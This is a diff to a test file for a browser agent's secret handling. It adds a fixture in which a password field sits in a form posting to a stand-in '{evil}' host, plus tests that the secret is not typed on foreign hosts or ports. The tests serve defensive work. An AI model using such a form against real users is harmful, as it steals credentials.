@@ -216,6 +216,15 @@ ORDERS = [
         FailureClass.NAV_BLOCKED,
     ),
     Order(
+        "the step's password in a form that is sent elsewhere",
+        text(
+            'type "the first secret" into "Secret word"',
+            f"<form method=post action='{{evil}}'>{LOGIN}</form>",
+        ),
+        PASSWORD,
+        FailureClass.NAV_BLOCKED,
+    ),
+    Order(
         "a secret pressed as keys",
         text('press "the second secret"', FIELDS),
         FREE,
@@ -268,9 +277,9 @@ _LEFT_AGAIN = ("a redirect of the site's own", "a script that opens a tab", _FRA
 """Where only the address after the first is foreign, or a tab's first; it is left at once."""
 
 
-async def prepared(bench: Bench, order: Order) -> str:
+async def prepared(bench: Bench, order: Order, shop: str = "") -> str:
     """A run whose plan names the shop alone, with two secrets; the foreign address."""
-    shop = bench.shop.url("/")
+    shop = shop or bench.shop.url("/")
     await admitted(bench, {"steps": [{"intent": f"Open {shop}", "type": "navigate"}]})
     names = (bench.run.tenant_id, bench.run.run_id)
     await bench.ledger.secrets.add(*names, "secret.1", SECRET)
@@ -325,6 +334,18 @@ async def everything_typed(bench: Bench) -> str:
     """What all fields of all frames hold, password fields of the plan's own host left out."""
     script = "() => [...document.querySelectorAll('input')].map(one => one.value).join('|')"
     return "|".join([str(await one.evaluate(script)) for one in bench.session.page.frames])
+
+
+@pytest.mark.parametrize("named", ["https://127.0.0.1:{port}/", "http://127.0.0.1:1/"])
+async def test_a_secret_is_typed_on_the_site_that_the_plan_names(bench: Bench, named: str) -> None:
+    """Not on one that it names by https and that came without, and not on another port."""
+    order = Order("", text('type "the first secret" into "Secret word"', LOGIN), PASSWORD, None)
+    port = bench.shop.url("/").rpartition(":")[2].strip("/")
+    await prepared(bench, order, named.format(port=port))
+    outcome, _ = await play(bench, order, 1)
+    assert outcome.failure_class is FailureClass.NAV_BLOCKED, outcome
+    assert SECRET not in await everything_typed(bench)
+    assert await bench.session.page.input_value("input") == ""
 
 
 async def test_what_is_asked_of_the_user_shows_no_secret(bench: Bench) -> None:
